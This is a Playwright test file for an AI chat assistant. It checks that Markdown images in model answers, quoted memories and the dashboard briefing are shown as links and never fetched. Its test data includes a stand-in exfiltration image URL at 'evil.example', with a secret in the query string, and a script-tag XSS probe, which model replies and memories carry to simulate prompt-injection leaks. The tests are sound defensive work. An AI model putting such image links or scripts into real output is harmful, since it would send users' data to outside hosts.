import type { Page } from '@playwright/test'
import { openaiReply } from '../../server/src/test/fakes/openai.ts'
import { test as base, expect, signIn, testWithModel as withModel } from './fixtures.ts'

/**
 * A Markdown image in what Remi shows (issue 28, item 6) is never fetched: an injected model or a
 * quoted memory would otherwise send data out the moment it is shown. Chromium's request listener sees
 * every request the page makes; none may leave for another host. (The fixtures also fail the test on a
 * CSP violation, which an <img> with a remote address would be.)
 */

const LEAK = 'https://evil.example/leak.png?d=secret'

/**
 * Every http(s) request the page makes to anywhere but the server it was opened on, and `settled()`:
 * resolves once no request but the page's event stream (/api/events, open as long as the page) has been
 * in flight for half a second. Playwright's 'networkidle' counts that stream and the sign-in's open
 * interaction request, so it may never come.
 */
function outsideRequests(page: Page, serverUrl: string) {
  const seen: string[] = []
  const inFlight = new Set<unknown>()
  let lastChange = Date.now()
  const done = (request: unknown) => {
    if (inFlight.delete(request)) lastChange = Date.now()
  }
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (/^https?:$/.test(url.protocol) && url.origin !== new URL(serverUrl).origin) seen.push(request.url())
    if (request.resourceType() === 'eventsource' || url.pathname === '/api/events') return
    if (url.origin === new URL(serverUrl).origin && url.pathname.startsWith('/oidc/')) return
    inFlight.add(request)
    lastChange = Date.now()
  })
  page.on('requestfinished', done)
  page.on('requestfailed', done)
  const settled = () =>
    expect
      .poll(() => inFlight.size === 0 && Date.now() - lastChange >= 500, {
        timeout: 15_000,
        intervals: [100],
      })
      .toBe(true)
  return Object.assign(seen, { settled })
}

const answers = (page: Page) =>
  page.getByRole('log', { name: 'Conversation' }).locator('.chat-bubble-assistant')

async function send(page: Page, text: string) {
  const input = page.getByRole('textbox', { name: 'Message' })
  await input.fill(text)
  await input.press('Enter')
  await expect(input).toHaveValue('')
}

async function openChat(page: Page, name: string) {
  await page.goto('/chat')
  await expect(page).toHaveURL(/\/login$/)
  await signIn(page, { name })
  await expect(page).toHaveURL(/\/chat$/)
}

async function createMemory(page: Page, memory: { text: string; tags: string[]; date: string | null }) {
  const { csrfToken } = (await (await page.request.get('/api/auth/csrf-token')).json()) as {
    csrfToken: string
  }
  const response = await page.request.post('/api/memories', {
    data: memory,
    headers: { 'x-csrf-token': csrfToken },
  })
  expect(response.status()).toBe(201)
}

base.describe('offline assistant and briefing', () => {
  base('a memory quoted in the chat and the briefing loads no image', async ({ page, server }) => {
    const outside = outsideRequests(page, server.url)
    await openChat(page, 'Pedro Leak')
    // Three days on, whatever the zone: in the briefing's "In the next 7 days".
    const soon = new Date(Date.now() + 3 * 24 * 60 * 60 * 1000).toISOString().slice(0, 10)
    await createMemory(page, {
      text: `Pedro sent ![x](${LEAK}) <script>alert(1)</script> and the form <https://example.org/a_b?c=1>`,
      tags: [],
      date: soon,
    })

    await send(page, 'What did Pedro send?')
    const reply = answers(page).first()
    await expect(reply).toContainText(`Pedro sent ![x](${LEAK}) <script>alert(1)</script>`)
    await expect(reply.locator('img')).toHaveCount(0)
    // exact: the answer's citation link names the memory, whose text holds the address too.
    await expect(reply.getByRole('link', { name: LEAK, exact: true })).toHaveAttribute('href', LEAK)

    await page.getByRole('link', { name: 'Dashboard' }).click()
    const briefing = page.locator('.markdown-body')
    await expect(briefing).toContainText(`Pedro sent ![x](${LEAK})`)
    await expect(briefing.locator('img')).toHaveCount(0)
    // The memory's own autolink, escaped as text around it: the address has no backslash (item 9).
    await expect(briefing.getByRole('link', { name: 'https://example.org/a_b?c=1' })).toHaveAttribute(
      'href',
      'https://example.org/a_b?c=1',
    )
    await outside.settled()
    expect([...outside]).toEqual([])
  })
})

withModel.describe('with a model', () => {
  withModel.beforeEach(({ model }) => model.reset())

  withModel(
    'an answer with a Markdown image shows a link naming the host, and nothing is requested from it',
    async ({ page, model, modelServer }) => {
      const outside = outsideRequests(page, modelServer.url)
      await openChat(page, 'Model Leak')
      model.enqueue(openaiReply.text(['Here is the chart: ', `![chart](${LEAK})`, ' as asked.']))
      await send(page, 'Show me a chart')
      const reply = answers(page).first()
      await expect(reply).toContainText('as asked.')
      await expect(reply.locator('img')).toHaveCount(0)
      const link = reply.getByRole('link', { name: '[Image: chart (evil.example)]' })
      await expect(link).toHaveAttribute('href', LEAK)
      // Shown again from the stored history.
      await page.reload()
      await expect(
        answers(page).first().getByRole('link', { name: '[Image: chart (evil.example)]' }),
      ).toBeVisible()
      await outside.settled()
      expect([...outside]).toEqual([])
    },
  )
})
